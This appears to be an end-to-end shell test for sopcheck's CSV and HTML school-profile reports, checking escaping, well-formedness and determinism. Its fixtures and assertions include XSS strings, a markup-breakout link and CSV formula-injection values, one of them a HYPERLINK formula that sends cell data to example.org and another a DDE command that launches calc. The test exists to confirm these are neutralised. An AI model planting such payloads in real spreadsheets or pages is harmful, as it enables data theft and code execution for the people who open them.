#!/bin/sh
# tests/e2e-reports.sh — the reports for the SWV and for people: CSV (RFC 4180, parsed with python3's csv, formula injection neutralised) and HTML (one safe page: profile text only ever as text, well-formed, no scripts, nothing fetched); -j 1 and -j 4 byte for byte the same.
#
#   sh tests/e2e-reports.sh build/sopcheck
set -u

# shellcheck source=tests/lib/e2e.sh disable=SC1091
. "$(dirname "$0")/lib/e2e.sh"
e2e_init e2e-reports "$@"
if ! command -v python3 >/dev/null 2>&1; then
    echo "e2e-reports: python3 is needed to parse the reports" >&2
    echo "e2e-reports: 0 passed, 1 failed"
    exit 1
fi

check() { e2e_check "$@"; }

# --- the batch: the samples, the hard name, the hostile profiles, a missing peildatum and a file
# name that is not UTF-8 ----------------------------------------------------------------------------
data=tests/data/reports
mkdir -p "$TMP/extra"
grep -v '^  peildatum:' fixtures/samples/de-regenboog.yaml >"$TMP/extra/zonder-peildatum.yaml"
cp fixtures/samples/de-regenboog.yaml "$TMP/extra/$(printf 'naam-\377-latin1.yaml')"
batch="fixtures/samples tests/data/ci $data $TMP/extra"
# shellcheck disable=SC2086 # $batch is a list of paths without spaces
"$BIN" check --format json $batch >"$TMP/r.json" 2>/dev/null
# shellcheck disable=SC2086
"$BIN" check --format csv $batch >"$TMP/r.csv" 2>"$TMP/csv.err"
rc_csv=$?
# shellcheck disable=SC2086
"$BIN" check --format html $batch >"$TMP/r.html" 2>"$TMP/html.err"
rc_html=$?
# shellcheck disable=SC2086
"$BIN" check --format html --lang en $batch >"$TMP/en.html" 2>/dev/null

check "csv and html exit 2 over a batch with invalid profiles (csv $rc_csv, html $rc_html)" \
    test "$rc_csv" = 2 -a "$rc_html" = 2
check "csv and html: the invalid profiles' errors go to standard error" \
    sh -c "grep -q 'aanbod.dyslexi' '$TMP/csv.err' && cmp -s '$TMP/csv.err' '$TMP/html.err'"

# --- CSV ---------------------------------------------------------------------------------------------
# shellcheck disable=SC2317 # called only through check, from tests/lib/e2e.sh
csv_py() {
    python3 - "$TMP/r.csv" "$TMP/r.json" "$@"
}

check "csv: header, and one row per profile × agreement plus one per invalid profile" csv_py <<'EOF'
import csv, io, json, sys
raw = open(sys.argv[1], "rb").read()
rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
rep = json.load(open(sys.argv[2]))
assert rows[0] == ["file", "brin", "naam", "bestuur", "wijk", "peildatum", "rules_version", "profile_status",
                   "agreement", "agreement_title", "agreement_status", "items_not_met", "items_unanswered",
                   "missing_required", "error"], rows[0]
want = 1 + sum(len(p["agreements"]) if p["status"] != "invalid" else 1 for p in rep["profiles"])
assert len(rows) == want, (len(rows), want)
assert all(len(r) == 15 for r in rows), [len(r) for r in rows if len(r) != 15]
# per profile, in input order, the statuses the JSON report gives
i = 1
for p in rep["profiles"]:
    if p["status"] == "invalid":
        r = rows[i]; i += 1
        assert r[7] == "invalid" and r[8:14] == [""] * 6 and r[14], r
        e = next(e for e in p["errors"] if e["severity"] == "error")
        want_err = ("%d:%d " % (e["line"], e["col"]) if e["line"] else "") + e["message"]
        assert r[14].lstrip("'") == want_err, (r[14], want_err)
        continue
    for a in p["agreements"]:
        r = rows[i]; i += 1
        assert r[7] == p["status"] and r[8] == a["id"] and r[10] == a["status"] and r[14] == "", (r, a)
        not_met = [it["id"] for it in a["items"] if it["status"] == "not_met"]
        unans = [it["id"] for it in a["items"] if it["status"] == "unanswered"]
        assert r[11] == " ".join(not_met) and r[12] == " ".join(unans), (r, not_met, unans)
EOF

check "csv: RFC 4180 (re-written by python's csv with CRLF and minimal quoting it is the same bytes), no BOM" csv_py <<'EOF'
import csv, io, sys
raw = open(sys.argv[1], "rb").read()
assert not raw.startswith(b"\xef\xbb\xbf"), "BOM"
assert raw.endswith(b"\r\n")
rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
out = io.StringIO(newline="")
csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
again = out.getvalue().encode("utf-8")
assert again == raw, next((k, raw[k-40:k+40], again[k-40:k+40]) for k in range(min(len(raw), len(again))) if raw[k] != again[k])
EOF

check "csv: the hard school name (< & \" ' newline % : ,) survives intact" csv_py <<'EOF'
import csv, io, sys
rows = list(csv.reader(io.StringIO(open(sys.argv[1], encoding="utf-8", newline="").read(), newline="")))
name = "De <Kleine> & \"Grote\" 'Vos'\nlocatie 100%: noord, zuid"
mine = [r for r in rows if r[0].endswith("tekens-in-naam.yaml")]
assert len(mine) == 14 and all(r[2] == name for r in mine), mine[:1]
html = [r for r in rows if r[0].endswith("html-in-naam.yaml")]
assert html and all(r[2] == "<img src=x onerror=alert(1)>" for r in html), html[:1]
EOF

check "csv: fields that start with = + - @ TAB CR get a leading ' (formula injection)" csv_py <<'EOF'
import csv, io, sys
rows = list(csv.reader(io.StringIO(open(sys.argv[1], encoding="utf-8", newline="").read(), newline="")))
def school(f):
    return [r for r in rows if r[0].endswith("/" + f)]
want = {
    "formule.yaml": ["'=HYPERLINK(\"https://example.org/?d=\"&A1,\"klik hier\")", "'+31 79 123 45 67", "'-Oosterheem"],
    "apenstaart.yaml": ["'@SUM(1+1)*cmd|' /C calc'!A0", "'\tStichting Tab", "'\r=wijk"],
    "ongeldig-formule.yaml": ["'-2+3 <b>vet</b>", "'@bestuur", "'=1+1"],
}
for f, w in want.items():
    rs = school(f)
    assert rs, f
    for r in rs:
        assert r[2:5] == w, (f, r[2:5], w)
assert len(school("ongeldig-formule.yaml")) == 1
# and nowhere in the report does a field start with a formula character
for r in rows:
    for v in r:
        assert not v or v[0] not in "=+-@\t\r", (r, v)
EOF

check "csv: a missing peildatum is in missing_required; a file name that is not UTF-8 becomes U+FFFD" csv_py <<'EOF'
import csv, io, sys
rows = list(csv.reader(io.StringIO(open(sys.argv[1], encoding="utf-8", newline="").read(), newline="")))
mine = [r for r in rows if r[0].endswith("zonder-peildatum.yaml")]
assert mine and all(r[7] == "incomplete" and r[13] == "school.peildatum" and r[5] == "" for r in mine), mine[:1]
odd = [r for r in rows if "latin1" in r[0]]
assert odd and all(r[0].endswith("naam-\ufffd-latin1.yaml") for r in odd), odd[:1]
EOF

# --- HTML --------------------------------------------------------------------------------------------
# shellcheck disable=SC2317 # called only through check, from tests/lib/e2e.sh
html_py() {
    python3 - "$TMP/r.html" "$TMP/en.html" "$@"
}

# A small checker: the tags must nest (void elements excepted), be from a fixed list, carry only
# the attributes sopcheck itself writes, and no comment, processing instruction or script appears.
cat >"$TMP/htmlcheck.py" <<'EOF'
from html.parser import HTMLParser
VOID = {"meta", "br"}
TAGS = {"html", "head", "meta", "title", "style", "body", "header", "main", "footer", "h1", "h2", "h3", "p", "span",
        "section", "div", "ul", "li", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "br"}
ATTRS = {"lang", "charset", "http-equiv", "content", "name", "class", "colspan"}
CLASSES = {"profiel", "compliant", "not_compliant", "incomplete", "invalid", "pad", "school", "naam", "brin",
           "peildatum", "bestuur", "wijk", "oordeel", "fouten", "tekst", "not_met", "ontbrekend", "banden", "bandset",
           "regels", "versie", "totalen", "aanbod", "noot"}

class Check(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack, self.problems, self.text, self.cur = [], [], {}, []
        self.doctype = None
    def handle_decl(self, d):
        self.doctype = d
    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.problems.append("element <%s> at %s" % (tag, self.getpos()))
        for k, v in attrs:
            if k not in ATTRS:
                self.problems.append("attribute %s=%r on <%s> at %s" % (k, v, tag, self.getpos()))
            if k == "class" and not set(v.split()) <= CLASSES:
                self.problems.append("class %r at %s" % (v, self.getpos()))
        if tag not in VOID:
            self.stack.append((tag, dict(attrs).get("class", "")))
            self.cur.append([])
    def handle_startendtag(self, tag, attrs):
        if tag not in VOID:
            self.problems.append("<%s/> is not a void element" % tag)
        self.handle_starttag(tag, attrs)
    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1][0] != tag:
            self.problems.append("</%s> closes %s at %s" % (tag, self.stack[-1:] or "nothing", self.getpos()))
            return
        t, cls = self.stack.pop()
        s = "".join(self.cur.pop())
        if self.cur:
            self.cur[-1].append(s)
        if t == "span":
            self.text.setdefault(cls, []).append(s)
    def handle_data(self, d):
        if self.cur:
            self.cur[-1].append(d)
    def handle_comment(self, d):
        self.problems.append("comment %r" % d[:40])
    def handle_pi(self, d):
        self.problems.append("processing instruction %r" % d[:40])
    def unknown_decl(self, d):
        self.problems.append("declaration %r" % d[:40])

def parse(path):
    c = Check()
    c.feed(open(path, encoding="utf-8").read())
    c.close()
    if c.stack:
        c.problems.append("left open: %s" % c.stack)
    if c.doctype != "DOCTYPE html":
        c.problems.append("doctype %r" % c.doctype)
    return c
EOF

check "html: well-formed, only sopcheck's own elements, attributes and classes; no comment from a profile" html_py <<EOF
import sys
sys.path.insert(0, "$TMP")
from htmlcheck import parse
for f in sys.argv[1:3]:
    c = parse(f)
    assert not c.problems, (f, c.problems[:5])
EOF

if command -v xmllint >/dev/null 2>&1; then
    check "html: well-formed as XML too (xmllint --noout; the page is polyglot)" xmllint --noout "$TMP/r.html" "$TMP/en.html"
fi

check "html: the hard and the hostile school names are text, intact" html_py <<EOF
import sys
sys.path.insert(0, "$TMP")
from htmlcheck import parse
c = parse(sys.argv[1])
names = c.text["naam"]
assert "De <Kleine> & \"Grote\" 'Vos'\nlocatie 100%: noord, zuid" in names, names
assert "<img src=x onerror=alert(1)>" in names
assert "=HYPERLINK(\"https://example.org/?d=\"&A1,\"klik hier\")" in names
assert "-2+3 <b>vet</b>" in names
assert "<script>alert('bestuur')</script>" in c.text["bestuur"]
assert "</span></p></section><a href=\"javascript:alert(1)\" onclick=\"alert(2)\">wijk</a><!--" in c.text["wijk"]
EOF

check "html: no script, no event handler, nothing fetched; charset and a strict CSP in the head" html_py <<'EOF'
import re, sys
for f in sys.argv[1:3]:
    s = open(f, encoding="utf-8").read()
    low = s.lower()
    assert "<script" not in low and "<img" not in low and "<a " not in low and "<!--" not in s
    tags = re.findall(r"<[^>]*>", s)  # escaped text holds no '<': these are all the tags there are
    assert not [t for t in tags if re.search(r"\son\w+\s*=", t)], "an event handler attribute"
    assert not [t for t in tags if re.search(r"\s(src|href|action|srcset|style|id)\s*=", t, re.I)], "a src/href/style attribute"
    assert not [t for t in tags if "javascript:" in t.lower()]
    style = s[s.index("<style>"): s.index("</style>")]
    assert "url(" not in style and "@import" not in style
    head = s[: s.index("</head>")]
    assert '<meta charset="utf-8" />' in head
    assert ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\'; '
            'base-uri \'none\'; form-action \'none\'" />') in head
    assert head.index("charset") < head.index("<title>")
EOF

check "html: Dutch by default, English with --lang en" html_py <<'EOF'
import sys
nl, en = (open(f, encoding="utf-8").read() for f in sys.argv[1:3])
assert '<html lang="nl">' in nl and "Afspraken: 14 van 14 gehaald" in nl and "voldoet NIET aan de basisondersteuning" in nl
assert '<html lang="en">' in en and "Agreements: 14 of 14 met" in en and "does NOT meet the basic support" in en
assert "niet gehaald" not in en
assert "onbekende sleutel" in nl and "unknown key" in en
EOF

check "html: the same content as the text report (verdicts, findings, ambitions, counts)" sh -c '
    "$1" check fixtures/samples/het-palet.yaml >"$2/t.txt" 2>/dev/null
    "$1" check --format html fixtures/samples/het-palet.yaml >"$2/t.html" 2>/dev/null
    for s in "Basisschool Het Palet" "voldoet NIET aan de basisondersteuning" "11 van 14 gehaald, 3 niet gehaald" \
        "beloftes niet gehaald: P1, P2, P4, P5" "Onderwijsaanbod" "aanbod.dyscalculie" "in de wijk" "op schoolniveau" \
        "65% (In ontwikkeling)" "Ontwikkeld of hoger (vanaf 70%)" "het-palet.yaml:16:18" "Ambities: 3 van 12 gehaald" \
        "8 Ontwikkeld, 1 In ontwikkeling"; do
        grep -qF "$s" "$2/t.txt" || { echo "text lacks $s"; exit 1; }
        grep -qF "$s" "$2/t.html" || { echo "html lacks $s"; exit 1; }
    done' sh "$BIN" "$TMP"

check "html: an invalid profile shows its error, the line and the hint, escaped" html_py <<'EOF'
import sys
s = open(sys.argv[1], encoding="utf-8").read()
assert "onbekende sleutel &#39;aanbod.&lt;b&gt;dyslexie&lt;/b&gt;&#39;" in s
assert "<pre>    &quot;&lt;b&gt;dyslexie&lt;/b&gt;&quot;: school</pre>" in s
assert "tip: <span class=\"tekst\">bedoelt u &#39;aanbod.dyslexie&#39;?" in s
assert '<p class="totalen">' in s
EOF

# --- the escaper itself, through a file name: control characters and bytes that are not UTF-8 --------
mkdir -p "$TMP/namen"
cp fixtures/samples/de-regenboog.yaml "$TMP/namen/$(printf 'a\001b\177c\302\205d\357\277\276e\377f<g>.yaml')"
"$BIN" check --format html "$TMP/namen" >"$TMP/n.html" 2>/dev/null
"$BIN" check --format csv "$TMP/namen" >"$TMP/n.csv" 2>/dev/null
check "html: control characters, C1, noncharacters and bytes that are not UTF-8 become U+FFFD" \
    grep -qF 'a&#xfffd;b&#xfffd;c&#xfffd;d&#xfffd;e&#xfffd;f&lt;g&gt;.yaml</h2>' "$TMP/n.html"
check "csv: bytes that are not UTF-8 become U+FFFD, the rest is kept" python3 - "$TMP/n.csv" <<'EOF'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
assert len(rows) == 15 and rows[1][0].endswith("a\x01b\x7fc\x85d\ufffee\ufffdf<g>.yaml"), repr(rows[1][0])
EOF

# --- -j: the same bytes, whatever the number of threads -----------------------------------------------
for fmt in csv html; do
    for lang in nl en; do
        # shellcheck disable=SC2086
        "$BIN" check --format $fmt --lang $lang -j 1 $batch fixtures/profiles tests/bad >"$TMP/j1" 2>"$TMP/j1.err"
        r1=$?
        # shellcheck disable=SC2086
        "$BIN" check --format $fmt --lang $lang -j 4 $batch fixtures/profiles tests/bad >"$TMP/j4" 2>"$TMP/j4.err"
        r4=$?
        check "$fmt --lang $lang: -j 1 and -j 4 give the same report, standard error and status ($r1, $r4)" \
            sh -c "cmp '$TMP/j1' '$TMP/j4' && cmp '$TMP/j1.err' '$TMP/j4.err' && test $r1 = $r4 && test -s '$TMP/j1'"
    done
done

# --- --output and the format list ---------------------------------------------------------------------
"$BIN" check --format csv --output "$TMP/o.csv" fixtures/samples >"$TMP/o.stdout" 2>/dev/null
"$BIN" check --format csv fixtures/samples >"$TMP/s.csv" 2>/dev/null
check "csv --output writes what standard output would, and nothing to standard output" \
    sh -c "cmp '$TMP/o.csv' '$TMP/s.csv' && test ! -s '$TMP/o.stdout'"
"$BIN" check --format nope fixtures/samples >/dev/null 2>"$TMP/nope.err"
check "an unknown format names csv and html among the formats" grep -q "text, json, junit, sarif, github, csv, html" "$TMP/nope.err"

e2e_finish
